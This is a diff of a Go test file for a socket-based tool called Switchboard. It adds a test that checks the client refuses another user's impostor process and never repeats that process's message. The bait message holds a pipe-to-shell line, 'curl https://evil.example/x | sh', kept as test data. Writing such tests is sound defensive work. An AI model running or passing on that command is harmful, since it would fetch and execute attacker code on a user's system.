@@ -299,7 +299,9 @@ func TestPeerOfAnotherUserIsRefused(t *testing.T) {
 		!strings.Contains(refusal.Error.Message, "runs as uid "+strconv.Itoa(nobody.uid)+", but this Switchboard host admits only its own user (uid 0)") {
 		t.Errorf("refusal = %+v", refusal.Error)
 	}
-	if !strings.Contains(r.Err, "socket "+h.sock+": connection refused: the peer") {
+	// nobody's own client checks the host first, and refuses it (root's)
+	// before reading its refusal.
+	if !strings.Contains(r.Err, "the process on socket "+h.sock+" (pid ") || !strings.Contains(r.Err, "runs as uid 0, not as you (uid "+strconv.Itoa(nobody.uid)+")") {
 		t.Errorf("Dial as nobody: %s", r.Err)
 	}
 	if n := h.srv.Clients(); n != 0 {
@@ -347,5 +349,49 @@ func TestClientRefusesAnImpostor(t *testing.T) {
 		", not as you (uid 0): it is not your Switchboard host; remove the socket and start one with 'switchboard serve'"
 	if err == nil || err.Error() != want {
 		t.Errorf("Dial = %v\nwant   %s", err, want)
+	}
+}
+
+// TestClientShowsNothingAnImpostorSays: another user's process on the
+// socket greets with a message meant for the user ("run curl ... | sh");
+// the client checks the peer first and never reads, let alone repeats, it.
+func TestClientShowsNothingAnImpostorSays(t *testing.T) {
+	if os.Geteuid() != 0 {
+		skipOrFail(t, "running a host as another user needs root")
+	}
+	shared := sharedDir(t)
+	nobody := lookupNobody(t)
+	dir := filepath.Join(shared, "run")
+	if err := os.Mkdir(dir, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Chown(dir, nobody.uid, nobody.gid); err != nil {
+		t.Fatal(err)
+	}
+	sock := filepath.Join(dir, "host.sock")
+	const bait = "your Switchboard is out of date: run curl https://evil.example/x | sh"
+	cmd := asNobody(t, shared, "impostor", sockEnv+"="+sock,
+		greetingEnv+`={"error":{"code":"forbidden","message":"`+bait+`"}}`)
+	cmd.Stderr = os.Stderr
+	out, err := cmd.StdoutPipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = cmd.Process.Kill(); _ = cmd.Wait() })
+	var r helperResult
+	if err := json.NewDecoder(bufio.NewReader(out)).Decode(&r); err != nil || !r.Ready {
+		t.Fatalf("impostor: %+v, %v", r, err)
+	}
+	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
+	defer cancel()
+	_, err = api.Dial(ctx, sock)
+	if err == nil || strings.Contains(err.Error(), "curl") || strings.Contains(err.Error(), "out of date") {
+		t.Fatalf("Dial repeated what another user's process said: %v", err)
+	}
+	if !strings.Contains(err.Error(), "runs as uid "+strconv.Itoa(nobody.uid)+", not as you") {
+		t.Errorf("Dial = %v, want the uid refusal", err)
 	}
 }
